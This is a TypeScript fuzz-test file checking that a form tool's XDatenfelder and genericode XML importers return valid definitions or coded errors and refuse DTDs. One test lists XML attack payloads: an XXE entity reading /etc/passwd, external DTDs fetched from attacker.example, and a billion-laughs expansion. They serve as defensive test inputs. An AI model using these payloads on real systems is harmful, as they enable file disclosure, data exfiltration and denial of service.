import { readdirSync, readFileSync } from 'node:fs';
import { isEfaError } from '@efa-kit/core';
import {
  applyEdits,
  codedOutcome,
  fuzzProperty,
  fuzzRuns,
  fuzzTimeout,
  withinBudget,
} from '@efa-kit/core/testing';
import { textEdits, xmlTokens } from '@efa-kit/core/testing/fuzz-arbitraries';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseGenericode } from '../fim/genericode.js';
import { importXDatenfelder } from '../fim/import.js';
import { parseXml } from '../fim/xml.js';
import { formDefinitionSchema } from '../schema/index.js';

// Issue 17: the XDatenfelder and genericode importers take files from anywhere (FIM portals,
// an editor's download folder). Arbitrary text and mutated real samples must give a valid
// definition or a coded FORM_FIM_… error, within the time budget; DTDs and entities are refused.

const fixtures = new URL('../../fixtures/', import.meta.url);
const read = (dir: string) =>
  readdirSync(new URL(dir, fixtures))
    .filter((name) => name.endsWith('.xml'))
    .map((name) => readFileSync(new URL(`${dir}${name}`, fixtures), 'utf8'));
const xdfSamples = [
  ...read('xdatenfelder/'),
  readFileSync(new URL('blueprints/hundesteuer-anmeldung.xdf3.xml', fixtures), 'utf8'),
];
const codeListSamples = [
  ...read('genericode/'),
  readFileSync(new URL('blueprints/hunderasse.gc.xml', fixtures), 'utf8'),
];
const codeLists = codeListSamples.map((xml) => parseGenericode(xml));

/** The outcome of one import, checked: a valid definition or a coded FIM error. */
function importChecked(xml: string) {
  const outcome = codedOutcome(() => withinBudget(() => importXDatenfelder(xml, { codeLists })));
  if (outcome.ok) {
    expect(formDefinitionSchema.safeParse(outcome.value.definition).success).toBe(true);
  } else if (isEfaError(outcome.error)) {
    expect(outcome.error.code).toMatch(/^FORM_FIM_/);
  }
  return outcome;
}

const xmlish = fc.string({
  unit: fc.constantFrom(
    '<',
    '>',
    '/',
    '=',
    '"',
    "'",
    '&',
    ';',
    '!',
    '?',
    '[',
    ']',
    '-',
    ' ',
    'a',
    'x',
    ':',
    '#',
    '\n',
  ),
  maxLength: 200,
});

describe('fuzz: FIM XDatenfelder import (issue 17)', () => {
  it(
    'arbitrary text and XML-shaped noise: a definition or a coded FORM_FIM_ error',
    async () => {
      await fuzzProperty('form-assistant', 'XDatenfelder import arbitrary', (runs) =>
        fc.assert(
          fc.property(
            fc.oneof(fc.string({ maxLength: 300 }), xmlish, fc.string({ maxLength: 20_000 })),
            (xml) => {
              importChecked(xml);
            },
          ),
          { numRuns: runs },
        ),
      );
    },
    fuzzTimeout(),
  );

  it(
    'mutated real samples (xdf2, xdf3, the dog-tax blueprint): a definition or a coded FORM_FIM_ error',
    async () => {
      await fuzzProperty('form-assistant', 'XDatenfelder import mutated samples', (runs) =>
        fc.assert(
          fc.property(fc.constantFrom(...xdfSamples), textEdits(xmlTokens), (sample, edits) => {
            importChecked(applyEdits(sample, edits));
          }),
          { numRuns: runs },
        ),
      );
    },
    fuzzTimeout(),
  );

  it(
    'round trip: a sample imports to a definition whose JSON parses back to the same definition',
    async () => {
      await fuzzProperty(
        'form-assistant',
        'XDatenfelder import → JSON → parse',
        (runs) =>
          fc.assert(
            fc.property(fc.constantFrom(...xdfSamples), (sample) => {
              const { definition } = importXDatenfelder(sample, { codeLists });
              expect(formDefinitionSchema.parse(JSON.parse(JSON.stringify(definition)))).toEqual(definition);
            }),
            { numRuns: runs },
          ),
        // Five fixed samples: a deterministic check, more runs add nothing.
        Math.min(fuzzRuns(), 50),
      );
    },
    fuzzTimeout(),
  );

  it(
    'DTDs and entity declarations are refused wherever the prolog puts them, entities never expanded',
    async () => {
      const attacks = [
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
        '<!doctype x [<!ENTITY xxe "EXPANDED">]>',
        '<!ENTITY xxe "EXPANDED">',
      ];
      await fuzzProperty('form-assistant', 'XDatenfelder DTD/entity attacks refused', (runs) =>
        fc.assert(
          fc.property(
            fc.constantFrom(...xdfSamples),
            fc.constantFrom(...attacks),
            fc.constantFrom('', ' ', '\n', '<!-- c -->', '<?pi x?>'),
            (sample, attack, before) => {
              // After the XML declaration (if any), before the root: where a DTD belongs.
              const declaration = /^<\?xml[^>]*\?>/.exec(sample)?.[0] ?? '';
              const rest = sample.slice(declaration.length);
              const attacked = `${declaration}${before}${attack}${rest.replace(/>/, '>&xxe;')}`;
              const outcome = codedOutcome(() => withinBudget(() => parseXml(attacked)));
              expect(outcome.ok).toBe(false);
              if (!outcome.ok && isEfaError(outcome.error)) {
                expect(['FORM_FIM_DOCTYPE', 'FORM_FIM_NOT_XML']).toContain(outcome.error.code);
              }
              const imported = importChecked(attacked);
              expect(imported.ok).toBe(false);
            },
          ),
          { numRuns: runs },
        ),
      );
    },
    fuzzTimeout(),
  );

  it(
    'an undeclared entity reference stays literal text, never expanded',
    async () => {
      await fuzzProperty('form-assistant', 'XML undeclared entity literal', (runs) =>
        fc.assert(
          fc.property(fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,10}$/), (name) => {
            fc.pre(!['lt', 'gt', 'amp', 'quot', 'apos'].includes(name));
            const root = parseXml(`<a>x&${name};y</a>`);
            expect(JSON.stringify(root)).toContain(`&${name};`);
          }),
          { numRuns: runs },
        ),
      );
    },
    fuzzTimeout(),
  );
});

describe('fuzz: genericode code lists (issue 17)', () => {
  it(
    'mutated and arbitrary code lists: a list or a coded FORM_FIM_ error',
    async () => {
      await fuzzProperty('form-assistant', 'genericode mutated + arbitrary', (runs) =>
        fc.assert(
          fc.property(
            fc.oneof(
              fc
                .tuple(fc.constantFrom(...codeListSamples), textEdits(xmlTokens))
                .map(([s, e]) => applyEdits(s, e)),
              xmlish,
            ),
            (xml) => {
              const outcome = codedOutcome(() => withinBudget(() => parseGenericode(xml)));
              if (!outcome.ok && isEfaError(outcome.error)) expect(outcome.error.code).toMatch(/^FORM_FIM_/);
            },
          ),
          { numRuns: runs },
        ),
      );
    },
    fuzzTimeout(),
  );
});
